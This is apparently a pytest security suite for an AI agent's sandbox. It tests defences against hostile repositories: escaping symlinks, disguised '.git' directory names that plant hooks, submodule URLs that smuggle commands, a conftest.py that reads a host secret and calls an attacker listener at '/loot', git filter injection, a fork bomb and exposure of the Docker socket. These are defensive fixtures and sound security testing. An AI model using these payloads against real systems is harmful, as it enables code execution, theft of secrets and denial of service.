"""A repository that attacks: by its links, names, submodules, tests, and by what the agent leaves in its ``.git``."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from aci_tools.errors import PatchwrightError
from aci_tools.patch import working_tree_patch
from aci_tools.sandbox import Limits
from aci_tools.session import Session, SessionSettings
from aci_tools.tools import TOOLS
from tasks.repository import prepare
from tests.security.conftest import CANARY, Listener, Opening, fenced_kind, git


def test_a_link_out_of_the_tree_leads_nowhere(
    project: Path, host_file: Path, opening: Opening, fence: str, defended: bool
) -> None:
    (project / "notes").symlink_to(host_file)
    sandbox = opening(fence, project)
    session = Session(sandbox, SessionSettings())
    shown = sandbox.run("cat notes").text
    try:
        shown += TOOLS["open"](path="notes").run(session).text
    except Exception as error:
        shown += str(error)
    assert (CANARY in shown) is not defended


def test_an_uncommitted_link_is_copied_as_a_link(
    project: Path, host_file: Path, tmp_path: Path, defended: bool
) -> None:
    (project / "notes").symlink_to(host_file)
    if defended:
        copy = prepare(str(project), None, tmp_path / "copy", include_uncommitted=True).path
    else:
        copy = tmp_path / "copy"
        subprocess.run(["cp", "-rL", str(project), str(copy)], check=True)
    assert (
        CANARY in b"".join(p.read_bytes() for p in copy.iterdir() if p.is_file() and not p.is_symlink()).decode()
    ) is (not defended)
    assert (copy / "notes").is_symlink() is defended


def tree_with(project: Path, *path: str) -> str:
    """A commit whose tree has a file at a path that git itself would not add."""
    blob = (
        subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=project,
            input=b"#!/bin/sh\ntouch owned\n",
            capture_output=True,
            check=True,
        )
        .stdout.decode()
        .strip()
    )
    entry = f"100755 blob {blob}\t{path[-1]}\n"
    for name in reversed(path[:-1]):
        tree = (
            subprocess.run(["git", "mktree"], cwd=project, input=entry.encode(), capture_output=True, check=True)
            .stdout.decode()
            .strip()
        )
        entry = f"040000 tree {tree}\t{name}\n"
    top = subprocess.run(["git", "mktree"], cwd=project, input=entry.encode(), capture_output=True, check=True)
    return git(project, "commit-tree", top.stdout.decode().strip(), "-m", "Hostile")


@pytest.mark.parametrize("directory", ["git~1", ".g\u200cit"])
def test_a_name_that_stands_for_git_elsewhere_is_refused(
    project: Path, tmp_path: Path, directory: str, defended: bool
) -> None:
    commit = tree_with(project, directory, "hooks", "post-checkout")
    copy = tmp_path / "copy"
    if defended:
        with pytest.raises(PatchwrightError):
            prepare(str(project), commit, copy)
    else:
        off = ["-c", "core.protectNTFS=false", "-c", "core.protectHFS=false"]
        git(tmp_path, *off, "clone", "-q", "--no-checkout", str(project), str(copy))
        git(copy, *off, "checkout", "-q", commit, check=False)
    assert (copy / directory / "hooks" / "post-checkout").exists() is not defended


def test_names_that_differ_in_case_only_stay_two_files(
    project: Path, tmp_path: Path, opening: Opening, defended: bool
) -> None:
    git(project, "config", "core.ignoreCase", "true")
    copy = prepare(str(project), None, tmp_path / "copy").path if defended else project
    sandbox = opening("local", copy)
    sandbox.write("Story", b"another\n")
    assert ("b/Story" in working_tree_patch(sandbox, "HEAD")) is defended


@pytest.mark.parametrize("url", ["ext::sh -c touch% {mark}", "--upload-pack=touch {mark}", "file://{origin}"])
def test_no_submodule_is_fetched(project: Path, tmp_path: Path, url: str, defended: bool) -> None:
    mark, origin = tmp_path / "mark", tmp_path / "origin"
    origin.mkdir()
    git(origin, "init", "-q", "-b", "main")
    (origin / "payload").write_text("x")
    git(origin, "add", "-A")
    git(origin, "commit", "-q", "-m", "Payload")
    inner = git(origin, "rev-parse", "HEAD")
    (project / ".gitmodules").write_text(
        f'[submodule "inner"]\n\tpath = inner\n\turl = "{url.format(mark=mark, origin=origin)}"\n\tupdate = checkout\n'
    )
    git(project, "add", "-A")
    git(project, "update-index", "--add", "--cacheinfo", f"160000,{inner},inner")
    git(project, "commit", "-q", "-m", "Submodule")
    if defended:
        copy = prepare(str(project), None, tmp_path / "copy").path
    else:
        copy = tmp_path / "copy"
        git(tmp_path, "clone", "-q", str(project), str(copy))
        git(copy, "-c", "protocol.allow=always", "submodule", "update", "-q", "--init", check=False)
    fetched = mark.exists() or (copy / "inner" / "payload").exists()
    # A url that is an option has been refused by git itself since 2.19.
    assert fetched is (not defended and not url.startswith("--"))


def test_a_conftest_attacks_the_sandbox_only(
    project: Path, host_file: Path, attacker: Listener, tmp_path: Path, opening: Opening, fence: str, defended: bool
) -> None:
    mark = tmp_path / "mark"
    (project / "conftest.py").write_text(
        f"""
import contextlib, os, pathlib, urllib.request
with contextlib.suppress(OSError):
    pathlib.Path({str(mark)!r}).write_text("owned")
with contextlib.suppress(OSError):
    print(pathlib.Path({str(host_file)!r}).read_text())
with contextlib.suppress(OSError):
    urllib.request.urlopen("http://{attacker.address}/loot", timeout=5)
"""
    )
    (project / "test_it.py").write_text("def test_it():\n    pass\n")
    sandbox = opening(fence, project)
    ran = sandbox.run("python3 conftest.py", timeout=60)
    assert ran.exit_code == 0
    assert mark.exists() is not defended
    assert (CANARY in ran.text) is not defended
    assert (attacker.asked == ["/loot"]) is not defended


def test_what_the_agent_leaves_in_git_runs_in_the_sandbox_only(
    project: Path, tmp_path: Path, opening: Opening, fence: str, defended: bool
) -> None:
    mark = tmp_path / "mark"
    sandbox = opening(fence, project)
    sandbox.run(f"git config filter.x.clean 'touch {mark}; cat'; echo '* filter=x' >.gitattributes; echo more >>story")
    assert "+more" in working_tree_patch(sandbox, "HEAD")
    assert mark.exists() is not defended


def test_a_bomb_of_processes_goes_off_in_the_sandbox_only(project: Path, opening: Opening, defended: bool) -> None:
    limits = Limits(pids=32 if defended else None)
    sandbox = opening(fenced_kind(), project, limits=limits)
    bomb = """
import contextlib, os, time
made = 0
with contextlib.suppress(OSError):
    while made < 100:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
print(made)
"""
    made = int(sandbox.run(f"python3 -c '{bomb}'", timeout=60).text)
    assert (made == 100) is not defended
    assert sandbox.run("echo next").output == b"next\n"


def test_the_users_own_docker_socket_is_not_in_a_sandbox(
    project: Path, opening: Opening, fence: str, defended: bool, tmp_path: Path
) -> None:
    import socket

    with socket.socket(socket.AF_UNIX) as engine:
        handle = os.open(tmp_path, os.O_RDONLY)
        engine.bind(f"/proc/self/fd/{handle}/docker.sock")
        os.close(handle)
        sandbox = opening(fence, project)
        assert sandbox.run(f"test -S {tmp_path}/docker.sock").ok is not defended
